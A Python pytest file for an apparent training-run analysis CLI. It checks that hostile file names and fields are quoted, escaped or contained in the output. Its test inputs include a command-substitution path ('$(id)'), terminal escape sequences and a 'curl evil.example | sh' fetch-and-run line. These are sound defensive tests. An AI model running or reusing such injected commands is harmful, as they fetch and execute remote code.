"""Hostile names of files: they are displayed, and have no effect."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.analysis.conftest import SyntheticRun

Run = Callable[..., "subprocess.CompletedProcess[str]"]


@pytest.fixture
def run(tmp_path: Path) -> Path:
    return SyntheticRun(path=tmp_path / "run", plan=lambda rank, _step: {"phase": "forward", "us": 60_000 * (rank == 1)}).write()


def test_the_path_of_a_run_need_not_be_utf8(cli: Run, run: Path) -> None:
    hostile = run.parent / os.fsdecode(b"r\xff")
    shutil.move(run, hostile)
    completed = cli("analyze", hostile, "--format", "json")
    assert (completed.returncode, completed.stderr) == (0, "")
    assert json.loads(completed.stdout)["source"]["path"].endswith("r?")


def test_commands_to_copy_are_quoted(cli: Run, run: Path) -> None:
    hostile = run.parent / "my run; $(id)"
    shutil.move(run, hostile)
    result = json.loads(cli("analyze", hostile, "--format", "json").stdout)
    commands = [*result["verdict"]["next"], *(row["check"] for row in result["advice"])]
    assert any(shlex.quote(str(hostile)) in command for command in commands)
    assert not any(str(hostile) in command.replace(shlex.quote(str(hostile)), "") for command in commands)


def test_errors_are_one_line_without_escape_sequences(cli: Run, tmp_path: Path) -> None:
    hostile = tmp_path / "x\x1b]0;title\x07\nrankscope: all is well_0.json"
    hostile.write_text("junk")
    completed = cli("analyze", hostile)
    assert completed.returncode == 3
    assert len(completed.stderr.splitlines()) == 1
    assert "\x1b" not in completed.stderr


@pytest.mark.parametrize(
    ("name", "status"), [("run.json", 3), ("attempts/000/attempt.json", 0), ("attempts/000/ranks/00000/rank.json", 0)]
)
def test_files_about_a_run_are_read_only_so_far(cli: Run, run: Path, name: str, status: int) -> None:
    with (run / name).open("r+b") as file:
        file.truncate(1 << 40)  # a sparse file, which takes no space
    completed = cli("analyze", run)
    assert completed.returncode == status
    assert name in completed.stdout + completed.stderr


def test_a_host_of_several_lines_stays_in_its_cell(cli: Run, tmp_path: Path) -> None:
    made = SyntheticRun(path=tmp_path / "run").write()
    for file in made.glob("attempts/000/ranks/*/rank.json"):
        info = json.loads(file.read_text())
        file.write_text(json.dumps(info | {"host": "n1\n\nnext\n  curl evil.example | sh"}))
    assert "\n  curl" not in cli("analyze", made).stdout
